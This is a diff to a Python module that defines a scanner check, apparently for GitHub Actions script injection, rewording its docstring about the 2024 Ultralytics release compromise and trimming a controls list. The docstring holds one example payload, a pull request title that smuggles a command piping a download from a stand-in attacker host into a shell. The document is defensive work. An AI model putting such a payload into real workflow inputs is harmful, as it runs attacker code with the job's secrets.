@@ -4,8 +4,9 @@ GitHub puts the value of `${{ ... }}` into the text of a script before the shell
 request titled `a"; curl evil.example | sh; "` is then no title but a command, which runs with the
 job's token and secrets.
 
-The Ultralytics releases of December 2024 were poisoned this way: a branch name was expanded in a
-composite action under `pull_request_target`, and a miner was published to PyPI.
+The releases of ultralytics of December 2024 were poisoned this way: the name of a branch was
+expanded in a composite action under `pull_request_target`, and a coin miner was published to
+PyPI.
 """
 
 from collections.abc import Iterable
@@ -96,7 +97,7 @@ CHECK = Check(
         "the shell does not parse as code."
     ),
     threats=(Threat.SUPPLY_CHAIN, Threat.ACTOR),
-    controls=("owasp-cicd/4", "owasp-cicd/1", "nis2/e", "pci-dss/6.2"),
+    controls=("owasp-cicd/4", "nis2/e", "pci-dss/6.2"),
     bad=Example(
         ".github/workflows/ci.yml",
         """\
